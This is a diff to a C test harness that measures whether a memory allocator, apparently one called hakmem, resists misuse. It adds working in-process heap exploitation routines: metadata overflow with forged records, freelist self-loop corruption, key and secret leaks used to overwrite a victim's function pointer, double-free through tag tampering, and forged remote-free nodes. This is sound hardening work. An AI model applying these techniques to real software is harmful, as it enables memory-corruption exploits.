@@ -13,12 +13,25 @@
  *           (or crashes), one that does not lets it exit 0 ("missed").
  *   poison  freelist poisoning: exit 42 means malloc handed out the
  *           address the program wrote into a freed block ("exploited").
+ *   attack  a misuse aimed at allocator state, then an oracle
+ *           in the program: exit 42 ("exploited") when the allocator
+ *           handed out memory it must not — an address the attacker chose
+ *           (a global), memory overlapping a block the program still holds
+ *           (the same pointer twice, or intersecting ranges), or memory
+ *           overlapping a "block" that realloc accepted although it was
+ *           never handed out. Reaching the end is exit 0 ("not
+ *           exploited"); an abort or a crash is "detected".
  *   benign  correct use; anything but exit 0 is a false positive.
  *
  * Exit codes: 0 completed, 2 a benign case saw wrong data or alignment,
- * 3 the setup failed (not the allocator's doing), 42 exploited.
+ * 3 the setup failed (not the allocator's doing), 4 a freed block was not
+ * handed back at once (write_after_free_small_reuse: the dangling write
+ * reached no live block), 42 exploited.
  */
+#ifndef _GNU_SOURCE /* misuse.mk defines it on the command line */
 #define _GNU_SOURCE
+#endif
+#include <fcntl.h>
 #include <malloc.h>
 #include <pthread.h>
 #include <stdarg.h>
@@ -35,6 +48,7 @@
 
 #define EXIT_WRONG 2
 #define EXIT_SETUP 3
+#define EXIT_NOT_REUSED 4
 #define EXIT_EXPLOITED 42
 
 /* ---- Reporting without the heap ---------------------------------------- */
@@ -376,6 +390,572 @@ static void write_after_free(size_t n)
     for (size_t i = 0; i < k; i++)
         free(got[i]);
     scratch_free(got, limit);
+    free(keep);
+    free(keep2);
+}
+
+/* ---- Attacks on allocator state ----------------------------------------- */
+
+/* Each attack is aimed at a weakness of hakmem's release build as of
+ * b4f0cf2 (named in its comment), but uses nothing of hakmem's: only what
+ * a program can observe through the standard names (the addresses malloc
+ * returns, the bytes of its own blocks, /proc/self/maps). Against another
+ * allocator the same steps simply find nothing to use, or trip its checks. */
+
+/* The oracle's view of the heap: the blocks the program holds. */
+#define HELD_MAX 2048
+static struct held {
+    uintptr_t a;
+    size_t n;
+    const char *what;
+} held[HELD_MAX];
+static size_t nheld;
+
+/* Where attackers want malloc to hand out memory: a writable global,
+ * big enough to be handed out as a large block (LREQ below, and the page
+ * after it) without the allocator's writes leaving it. */
+static uint64_t chosen[(64u << 10) / sizeof(uint64_t)] __attribute__((aligned(4096)));
+
+#define exploited(...) (say("misuse: exploited: " __VA_ARGS__), _exit(EXIT_EXPLOITED))
+
+static void hold(void *p, size_t n, const char *what)
+{
+    if (nheld == HELD_MAX)
+        setup_fail("more than %d held blocks", HELD_MAX);
+    held[nheld++] = (struct held){ (uintptr_t)p, n ? n : 1, what };
+}
+
+static void unhold(void *p)
+{
+    for (size_t i = 0; i < nheld; i++)
+        if (held[i].a == (uintptr_t)p) {
+            held[i] = held[--nheld];
+            return;
+        }
+}
+
+/* The oracle, on n bytes at p that `fn` just handed out. Exit 42 if they
+ * are the attacker's global or overlap a block the program holds; else
+ * the program holds them too. */
+static void handed_out(const char *fn, void *p, size_t n)
+{
+    if (!p)
+        return;
+    uintptr_t a = (uintptr_t)p, end = a + (n ? n : 1);
+    uintptr_t c = (uintptr_t)chosen;
+    if (a < c + sizeof chosen && end > c)
+        exploited("%s(%zu) returned %p, in the global the attacker chose (%p)",
+                  fn, n, p, (void *)chosen);
+    for (size_t i = 0; i < nheld; i++) {
+        const struct held *h = &held[i];
+        if (a < h->a + h->n && end > h->a) {
+            if (a == h->a)
+                exploited("%s(%zu) returned %p, which is %s (handed out twice)",
+                          fn, n, p, h->what);
+            exploited("%s(%zu) returned %p, overlapping %s %p+%zu", fn, n, p,
+                      h->what, (void *)h->a, h->n);
+        }
+    }
+    hold(p, n, "a block the program still holds");
+}
+
+static void *amalloc(size_t n)
+{
+    void *p = malloc(n);
+    handed_out("malloc", p, n);
+    return p;
+}
+
+static void afree(void *p)
+{
+    unhold(p);
+    free(p);
+}
+
+/* Word i of a block, as the program's own (possibly dangling) pointer
+ * reads or writes it. */
+static volatile uintptr_t *word(uintptr_t block, size_t i)
+{
+    return (volatile uintptr_t *)block + i;
+}
+
+/* Distance between two blocks of one size malloc returned one after the
+ * other: the slot stride of a slab allocator. Otherwise the usable size,
+ * rounded to 16: a guess that is right for size-class allocators. */
+static size_t stride_of(const void *p, const void *q)
+{
+    if (q > p && (size_t)((const uint8_t *)q - (const uint8_t *)p) <= 4096)
+        return (size_t)((const uint8_t *)q - (const uint8_t *)p);
+    return (malloc_usable_size((void *)p) + 15) & ~(size_t)15;
+}
+
+/* ---- Route 1: a linear overflow of a large block reaches metadata ------- */
+
+/* hakmem b4f0cf2 maps its heap records (256 KiB chunks) and its table of
+ * large blocks (a plain open-addressing array, remapped larger as it
+ * fills) with mmap like the large blocks themselves, with no guard page;
+ * mmap places a new mapping right below the previous one, so a large
+ * block mapped after a heap chunk or the table ends where they begin. */
+
+typedef struct {
+    uintptr_t lo, hi;
+} range_t;
+#define MAX_RANGES 4096
+#define PAGE ((uintptr_t)4096)
+#define LREQ ((size_t)40 << 10)    /* the large block the forged record serves */
+#define REACH ((uintptr_t)64 << 10) /* how far past a block the attacker writes */
+
+static char **main_argv;
+static char maps_text[1 << 18];
+static range_t maps_before[MAX_RANGES], maps_after[MAX_RANGES];
+static size_t nmaps_before, nmaps_after;
+static uint8_t *lblocks[1024];
+static size_t nlblocks, lblock_size;
+
+/* The process's mappings from /proc/self/maps, read into static memory:
+ * nothing here may allocate. */
+static size_t read_maps(range_t *r)
+{
+    int fd = open("/proc/self/maps", O_RDONLY | O_CLOEXEC);
+    if (fd < 0)
+        setup_fail("open /proc/self/maps");
+    size_t len = 0;
+    ssize_t k;
+    while (len < sizeof maps_text - 1 &&
+           (k = read(fd, maps_text + len, sizeof maps_text - 1 - len)) > 0)
+        len += (size_t)k;
+    close(fd);
+    if (len == sizeof maps_text - 1)
+        setup_fail("/proc/self/maps is longer than %zu bytes", len);
+    maps_text[len] = 0;
+    size_t n = 0;
+    for (char *s = maps_text; *s && n < MAX_RANGES;) {
+        char *e;
+        r[n].lo = (uintptr_t)strtoull(s, &e, 16);
+        if (*e != '-')
+            setup_fail("unexpected line in /proc/self/maps");
+        r[n].hi = (uintptr_t)strtoull(e + 1, &e, 16);
+        n++;
+        s = strchr(e, '\n');
+        if (!s)
+            break;
+        s++;
+    }
+    return n;
+}
+
+static int mapped_in(const range_t *r, size_t n, uintptr_t a)
+{
+    for (size_t i = 0; i < n; i++)
+        if (a >= r[i].lo && a < r[i].hi)
+            return 1;
+    return 0;
+}
+
+/* The page at a holds bytes of one of the program's large blocks. */
+static int own_page(uintptr_t a)
+{
+    for (size_t i = 0; i < nlblocks; i++) {
+        uintptr_t lo = (uintptr_t)lblocks[i] & ~(PAGE - 1);
+        uintptr_t hi = ((uintptr_t)lblocks[i] + lblock_size + PAGE - 1) & ~(PAGE - 1);
+        if (a >= lo && a < hi)
+            return 1;
+    }
+    return 0;
+}
+
+/* The page at a is the allocator's own memory, not a block: mapped now,
+ * not mapped when the attack began (only the allocator mapped anything
+ * since), and no page of the program's blocks. */
+static int allocator_page(uintptr_t a)
+{
+    return mapped_in(maps_after, nmaps_after, a) &&
+           !mapped_in(maps_before, nmaps_before, a) && !own_page(a);
+}
+
+/* This process's attempt at the case: 1, 2, ... (see start_over). */
+static unsigned attempt(void)
+{
+    const char *v = getenv("MISUSE_ATTEMPT");
+    return v ? (unsigned)atoi(v) : 1;
+}
+
+/* Starts the case over in a fresh process, with a fresh random layout of
+ * the address space (ASLR), until `max` attempts are used (counted in
+ * MISUSE_ATTEMPT). Returns when they are, or when exec fails. Nothing
+ * here allocates: the environment is copied into static memory. */
+static void start_over(unsigned max)
+{
+    static char var[32];
+    static char *env[1024];
+    extern char **environ;
+    unsigned k = attempt();
+    if (k >= max)
+        return;
+    snprintf(var, sizeof var, "MISUSE_ATTEMPT=%u", k + 1);
+    size_t n = 0;
+    for (char **e = environ; *e && n < sizeof env / sizeof env[0] - 2; e++)
+        if (strncmp(*e, "MISUSE_ATTEMPT=", 15) != 0)
+            env[n++] = *e;
+    env[n++] = var;
+    env[n] = NULL;
+    execve("/proc/self/exe", main_argv, env);
+}
+
+/* `nblocks` blocks of `size` (after one small block if `small_first`); each
+ * block whose next page is the allocator's own memory is overflowed: the
+ * program writes on past the end of its pages, over as much of that
+ * memory as lies there (at most REACH, never into its own blocks), with
+ * 32-byte records {chosen, chosen, LREQ + 4096, LREQ}. Read as a record
+ * of a large block (address, mapping base, mapping length, request) one
+ * names the chosen global as a block of LREQ bytes; read as a table of
+ * pointers (a heap's current slab per size class) every entry names the
+ * global, which is set up as such a slab: its free list holds the global
+ * itself, with key 0 and a first word equal to its own address, so the
+ * link decodes to NULL (link ^ key ^ addr). The oracle asks malloc(16)
+ * after each overflow (a small heap exists when `small_first`), and at
+ * the end frees the global and asks for LREQ bytes. A guard page after
+ * the block or before the metadata makes the write itself fault. Where
+ * the metadata lands depends on the random layout (the size of the hole
+ * it is mapped into): when no block ends at the allocator's memory, the
+ * case starts over in a fresh process, 8 times at most. */
+static void large_overflow(size_t nblocks, size_t size, int small_first)
+{
+    if (nblocks > sizeof lblocks / sizeof lblocks[0])
+        setup_fail("too many large blocks");
+    chosen[0] = (uintptr_t)chosen;
+    chosen[1] = 0;
+    lblock_size = size;
+    nmaps_before = read_maps(maps_before);
+    if (small_first)
+        free(xmalloc(16));
+    for (nlblocks = 0; nlblocks < nblocks; nlblocks++) {
+        lblocks[nlblocks] = xmalloc(size);
+        hold(lblocks[nlblocks], size, "a live large block");
+    }
+    nmaps_after = read_maps(maps_after);
+    size_t hits = 0;
+    for (size_t i = 0; i < nblocks; i++) {
+        uint8_t *p = lblocks[i];
+        uintptr_t end = ((uintptr_t)p + size + PAGE - 1) & ~(PAGE - 1);
+        if (!allocator_page(end))
+            continue;
+        uintptr_t stop = end;
+        while (stop < end + REACH && mapped_in(maps_after, nmaps_after, stop) &&
+               !own_page(stop))
+            stop += PAGE;
+        if (hits < 3) /* the first few: a crash names where it wrote */
+            say("misuse: note: overflowing block %zu (%p) by %zu bytes past its pages",
+                i, (void *)p, (size_t)(stop - end));
+        memset(p + size, 0x41, end - ((uintptr_t)p + size));
+        for (volatile uint64_t *w = (uint64_t *)end; (uintptr_t)w < stop; w += 4) {
+            w[0] = (uintptr_t)chosen;
+            w[1] = (uintptr_t)chosen;
+            w[2] = LREQ + PAGE;
+            w[3] = LREQ;
+        }
+        hits++;
+        if (small_first)
+            amalloc(16);
+    }
+    if (!hits) {
+        start_over(8);
+        say("misuse: in %u runs, none of %zu large blocks ended where the "
+            "allocator had mapped something: the overflow had nothing to reach",
+            attempt(), nblocks);
+        return;
+    }
+    free(chosen);
+    amalloc(LREQ);
+}
+
+/* A heap record: the first large block after the first small one. 128
+ * KiB is glibc's mmap threshold: it maps such blocks on their own too
+ * (all but one its main heap grows for). */
+static void attack_large_overflow_meta(size_t n)
+{
+    large_overflow(4, n, 1);
+}
+
+/* The table of large blocks: 640 live large blocks and no small one, so
+ * that a table which starts small (hakmem's: 1024 slots, grown when half
+ * full) is mapped anew. Blocks of 40 KiB: the first hundreds fill every
+ * hole in the address space they fit (mmap takes the highest one), so the
+ * new table, larger than them, goes right below the last block, and the
+ * next block right below the table: it ends where the table begins. */
+static void attack_large_overflow_table(size_t n)
+{
+    large_overflow(640, n, 0);
+}
+
+/* ---- Route 2: a freed block's link turned into a self-loop -------------- */
+
+/* free(q), free(p): p's link now names q, so the program knows what it
+ * encodes without knowing any key. With link = next ^ key ^ addr (hakmem)
+ * or (addr >> 12) ^ next (glibc's safe-linking), XOR-ing q ^ p into the
+ * stored word makes it name p itself: malloc hands p out, then again. */
+static void attack_freelist_self(size_t n)
+{
+    amalloc(n);
+    uintptr_t p = (uintptr_t)amalloc(n);
+    uintptr_t q = (uintptr_t)amalloc(n);
+    amalloc(n);
+    afree((void *)q);
+    afree((void *)p);
+    *word(p, 0) ^= q ^ p;
+    for (int i = 0; i < 64; i++)
+        amalloc(n);
+}
+
+/* ---- Route 3: the secrets are readable ---------------------------------- */
+
+typedef struct victim {
+    void (*fn)(void); /* a function pointer the program will call */
+    char name[24];
+} victim_t;
+
+static void victim_fn(void)
+{
+}
+
+static void attacker_fn(void)
+{
+    say("misuse: exploited: the victim's function pointer, overwritten "
+        "through an overlapping chunk, ran the attacker's function");
+    _exit(EXIT_EXPLOITED);
+}
+
+/* hakmem b4f0cf2 leaves a block's encoded free-list link in its first
+ * word when it hands it out; with batch carving the next block is the
+ * next malloc's, so one read of uninitialised memory gives the slab key
+ * (link ^ next ^ addr). A freed block's second word is addr ^ tag secret.
+ * With both, one write after free aims malloc at the 16 bytes before a
+ * live object (the end of the block before it, which the program owns):
+ * an overlapping chunk, through which the victim's function pointer is
+ * overwritten, and the victim calls it. n is a size class (96): the 16
+ * bytes before the victim are within the requested size of its neighbour
+ * when the stride is n (where it is larger, writing them overflows the
+ * neighbour into its slack, and the attack goes on all the same). */
+static void attack_leaked_keys(size_t n)
+{
+    uintptr_t b[6];
+    for (int i = 0; i < 6; i++)
+        b[i] = (uintptr_t)amalloc(n);
+    uintptr_t key = *word(b[0], 0) ^ b[1] ^ b[0];
+    if ((*word(b[1], 0) ^ key ^ b[1]) != b[2]) {
+        say("misuse: a fresh block's first word is no link to the next block: "
+            "no key to read");
+        return;
+    }
+    afree((void *)b[5]);
+    afree((void *)b[4]);
+    uintptr_t tag = *word(b[5], 1) ^ b[5];
+    if ((*word(b[4], 1) ^ b[4]) != tag) {
+        say("misuse: a freed block's second word is no address ^ secret: "
+            "no tag secret to read");
+        return;
+    }
+    /* the victim v follows u at the distance of the first two blocks */
+    uintptr_t u = b[2], v = b[3], fake = v - 16;
+    if (v <= u || v - u != b[1] - b[0] || v - u < 32) {
+        say("misuse: blocks 2 and 3 are not neighbours: no 16 bytes before "
+            "the victim to forge");
+        return;
+    }
+    ((victim_t *)v)->fn = victim_fn;
+    *word(fake, 0) = key ^ fake;  /* its link decodes to NULL: the list ends */
+    *word(fake, 1) = fake ^ tag;  /* its tag says free */
+    *word(b[4], 0) = fake ^ key ^ b[4]; /* the freed block's link names it */
+    for (int i = 0; i < 8; i++) {
+        uintptr_t c = (uintptr_t)malloc(n);
+        if (c < v && c + n > v) {
+            say("misuse: note: malloc(%zu) returned %p, %zu bytes before the "
+                "live victim %p", n, (void *)c, (size_t)(v - c), (void *)v);
+            *(void (**)(void))(c + (v - c)) = attacker_fn;
+            ((victim_t *)v)->fn();
+        }
+        handed_out("malloc", (void *)c, n);
+    }
+}
+
+/* ---- Route 4: the double-free tag lives in user bytes ------------------- */
+
+/* hakmem b4f0cf2 recognises a free block by bytes 8-15 of the block (its
+ * state tag), which a use after free can change: here a reference count
+ * at offset 8 is decremented after free, then the block is freed again.
+ * The second free links the block to itself: malloc hands it out twice. */
+static void attack_double_free_tag(size_t n)
+{
+    amalloc(n);
+    uintptr_t p = (uintptr_t)amalloc(n);
+    amalloc(n);
+    afree((void *)p);
+    *word(p, 1) -= 1;
+    free((void *)p);
+    for (int i = 0; i < 64; i++)
+        amalloc(n);
+}
+
+/* ---- Route 5: a slot never handed out passes validation ----------------- */
+
+/* hakmem b4f0cf2 validates a pointer against the slab's capacity, not
+ * against what it carved, and fresh memory carries no free tag: a slot
+ * far beyond the blocks handed out so far (the 100th of a fresh size
+ * class, by the distance between two blocks) passes realloc, which
+ * resizes it in place. A later malloc carves the same slot again: two
+ * blocks the program holds share their bytes. */
+static uintptr_t uncarved_slot(size_t n)
+{
+    uintptr_t p = (uintptr_t)amalloc(n);
+    uintptr_t q = (uintptr_t)amalloc(n);
+    return p + 100 * stride_of((void *)p, (void *)q);
+}
+
+static void attack_uncarved_slot(size_t n)
+{
+    uintptr_t slot = uncarved_slot(n);
+    void *r = realloc((void *)slot, n);
+    if (!r)
+        return;
+    if ((uintptr_t)r == slot)
+        hold(r, n, "the never-handed-out slot realloc accepted");
+    else
+        handed_out("realloc", r, n);
+    for (int i = 0; i < 300; i++)
+        amalloc(n);
+}
+
+/* The same slot given to malloc_usable_size only: a size returned (no
+ * abort) means the query accepted a block that does not exist. There is
+ * no exploit to see, so this is a misuse case: exit 0 is "missed". */
+static void attack_uncarved_usable(size_t n)
+{
+    uintptr_t slot = uncarved_slot(n);
+    size_t u = malloc_usable_size((void *)slot);
+    say("misuse: malloc_usable_size(%p), a slot never handed out, returned %zu",
+        (void *)slot, u);
+}
+
+/* ---- Route 7: a forged remote-free node --------------------------------- */
+
+/* hakmem b4f0cf2 queues a block freed by another thread on its owner's
+ * remote queue with link = next ^ queue key ^ addr and tag = addr ^ tag
+ * secret ^ 1, in the block's first two words. A lone queued block links
+ * to NULL, so a dangling read of it gives the queue key, and of its tag
+ * (with a locally freed block's tag) the tag secret. The node is rewritten
+ * to name a live block v whose first two words the program sets (they
+ * are its own data) to a last node's link and a queued tag; the owner's
+ * next refill drains the chain and puts v on a free list while it is live. */
+static void attack_forged_remote_node(size_t n)
+{
+    uintptr_t x = (uintptr_t)xmalloc(n);
+    uintptr_t v = (uintptr_t)amalloc(n);
+    amalloc(n);
+    uintptr_t y = (uintptr_t)amalloc(n);
+    on_thread(thread_free, (void *)x);
+    afree((void *)y);
+    uintptr_t tag = *word(y, 1) ^ y;
+    uintptr_t rkey = *word(x, 0) ^ x;
+    if ((*word(x, 1) ^ x ^ 1) != tag) {
+        say("misuse: the block another thread freed holds no tag with the "
+            "secret of a locally freed one: no queue node to forge");
+        return;
+    }
+    *word(v, 0) = rkey ^ v;     /* the chain ends at v */
+    *word(v, 1) = v ^ tag ^ 1;  /* v is tagged as queued */
+    *word(x, 0) = v ^ rkey ^ x; /* the queued node names v */
+    for (int i = 0; i < 256; i++)
+        amalloc(n);
+}
+
+/* ---- Zero-size and large blocks ---------------------------------------- */
+
+/* malloc(0) returns a pointer that owns no byte: p[0] is out of bounds.
+ * An allocator that backs it with a real block lets the access pass; the
+ * block is freed so that a check at free (a canary) can run. NULL would
+ * be allowed, and reading or writing it faults. */
+static void read_zero_size(size_t n)
+{
+    (void)n;
+    volatile uint8_t *p = malloc(0);
+    uint8_t v = p[0];
+    __asm__ volatile("" : : "r"(v));
+    free((void *)p);
+}
+
+static void write_zero_size(size_t n)
+{
+    (void)n;
+    volatile uint8_t *p = malloc(0);
+    p[0] = 1;
+    free((void *)p);
+}
+
+/* A large block is read or written after free, with no malloc between:
+ * only an allocator that unmaps or protects the freed pages notices (one
+ * that caches mappings for reuse does not). */
+static void uaf_read_large(size_t n)
+{
+    volatile uint8_t *p = xmalloc(n);
+    memset((void *)p, 0x5a, n);
+    free((void *)p);
+    uint8_t v = p[0] ^ p[n / 2] ^ p[n - 1];
+    __asm__ volatile("" : : "r"(v));
+}
+
+static void uaf_write_large(size_t n)
+{
+    volatile uint8_t *p = xmalloc(n);
+    memset((void *)p, 0x5a, n);
+    free((void *)p);
+    for (size_t i = 0; i < 8; i++)
+        p[n / 2 + i] = 0x41;
+}
+
+/* One byte at p + malloc_usable_size(p), for a large block whose usable
+ * size runs to the end of its pages: the first byte past them. A small
+ * block is allocated first, as every real program does, so whatever the
+ * allocator maps for small blocks already exists (and may lie there).
+ * What follows the block depends on the random layout of the address
+ * space: a fault on unmapped memory or on a library's read-only pages is
+ * luck, not a check. So the byte is aimed at memory the allocator mapped
+ * (allocator_page: its metadata, or a guard page it placed there); when
+ * the layout puts something else there, the case starts over in a fresh
+ * process (8 times at most, then it writes all the same). */
+static void overflow_large_page(size_t n)
+{
+    nmaps_before = read_maps(maps_before);
+    free(xmalloc(16));
+    volatile uint8_t *p = xmalloc(n);
+    size_t u = malloc_usable_size((void *)p);
+    nmaps_after = read_maps(maps_after);
+    lblocks[0] = (uint8_t *)p;
+    lblock_size = u;
+    nlblocks = 1;
+    if (!allocator_page((uintptr_t)p + u))
+        start_over(8);
+    p[u] = 0x41;
+    free((void *)p);
+}
+
+/* free(p), 8 bytes written at p + n/2 (past the link words), then one
+ * malloc of the size. Handing p straight back gives the next owner a
+ * block holding the dangling write (missed); a hardened allocator detects
+ * the write at reuse, or hands out another block (exit 4, "not reused"). */
+static void write_after_free_reuse(size_t n)
+{
+    uint8_t *keep = xmalloc(n);
+    uint8_t *p = xmalloc(n);
+    uint8_t *keep2 = xmalloc(n);
+    free(p);
+    memset(p + n / 2, 0x41, 8);
+    uint8_t *q = xmalloc(n);
+    if (q != p) {
+        say("misuse: not reused: malloc(%zu) returned another block than the "
+            "one just freed", n);
+        _exit(EXIT_NOT_REUSED);
+    }
+    free(q);
     free(keep);
     free(keep2);
 }
@@ -745,7 +1325,7 @@ static void random_workload(size_t n)
 
 typedef struct mcase {
     const char *name;
-    const char *kind; /* misuse, poison, benign */
+    const char *kind; /* misuse, poison, attack, benign */
     void (*fn)(size_t);
     size_t n;
     const char *desc;
@@ -788,6 +1368,48 @@ static const mcase_t cases[] = {
       "after it, then 3 mallocs and frees" },
     TIERS("write_after_free", "misuse", write_after_free,
           "free(p), 8 bytes written at p + n/2, malloc until p is back, free all"),
+    { "read_zero_size", "misuse", read_zero_size, 0, "p = malloc(0); read p[0]; free(p)" },
+    { "write_zero_size", "misuse", write_zero_size, 0, "p = malloc(0); p[0] = 1; free(p)" },
+    { "uaf_read_large", "misuse", uaf_read_large, (size_t)128 << 10,
+      "free(p), then p read (first, middle and last byte)" },
+    { "uaf_write_large", "misuse", uaf_write_large, (size_t)128 << 10,
+      "free(p), then 8 bytes written at p + n/2" },
+    { "overflow_large_page", "misuse", overflow_large_page, ((size_t)128 << 10) - 16,
+      "after a small block: p[malloc_usable_size(p)] written (the first byte "
+      "past the block's pages), free(p)" },
+    { "write_after_free_small_reuse", "misuse", write_after_free_reuse, SMALL,
+      "free(p), 8 bytes written at p + n/2, one malloc(n): p back = missed, "
+      "another block = not reused (exit 4)" },
+    { "attack_large_overflow_meta", "attack", attack_large_overflow_meta, (size_t)128 << 10,
+      "a small block, 4 large ones; each large block followed by memory the "
+      "allocator mapped (no block) is overflowed by up to 64 KiB of records "
+      "naming a global; malloc(16) and free(global) + malloc: the global back = exploited" },
+    { "attack_large_overflow_table", "attack", attack_large_overflow_table, LREQ,
+      "as attack_large_overflow_meta with 640 large blocks and no small one "
+      "(a table of large blocks grows and is mapped anew)" },
+    { "attack_freelist_self_small", "attack", attack_freelist_self, SMALL,
+      "free(q), free(p), p[0] ^= q ^ p (p's link then names p), 64 mallocs: "
+      "a block handed out twice = exploited" },
+    { "attack_freelist_self_mid", "attack", attack_freelist_self, MID,
+      "free(q), free(p), p[0] ^= q ^ p (p's link then names p), 64 mallocs: "
+      "a block handed out twice = exploited" },
+    { "attack_leaked_keys_small", "attack", attack_leaked_keys, 96,
+      "link key read from a fresh block, tag secret from a freed one; a "
+      "freed link aimed at 16 bytes before a live victim; its function "
+      "pointer overwritten through the overlapping chunk = exploited" },
+    { "attack_double_free_tag_small", "attack", attack_double_free_tag, SMALL,
+      "free(p), p's word at offset 8 decremented, free(p), 64 mallocs: a "
+      "block handed out twice = exploited" },
+    { "attack_uncarved_slot_small", "attack", attack_uncarved_slot, SMALL,
+      "realloc of the 100th slot of a fresh size class (never handed out), "
+      "300 mallocs: one overlapping it = exploited" },
+    { "attack_uncarved_usable_small", "misuse", attack_uncarved_usable, SMALL,
+      "malloc_usable_size of the 100th slot of a fresh size class (never "
+      "handed out): a size returned = missed" },
+    { "attack_forged_remote_node", "attack", attack_forged_remote_node, SMALL,
+      "queue key and tag secret read from a block another thread freed; its "
+      "link rewritten to name a live block v (v's own words forged as a "
+      "queued node); 256 mallocs: v handed out again = exploited" },
     TIERS("exact_size", "benign", exact_size,
           "every byte of the requested size written, for every size of the tier"),
     TIERS("realloc_same", "benign", realloc_same, "realloc to the same size, 3 times"),
@@ -813,6 +1435,7 @@ static const mcase_t cases[] = {
 
 int main(int argc, char **argv)
 {
+    main_argv = argv;
     if (argc != 2) {
         fprintf(stderr, "usage: %s --list | <case>\n", argv[0]);
         return EXIT_SETUP;
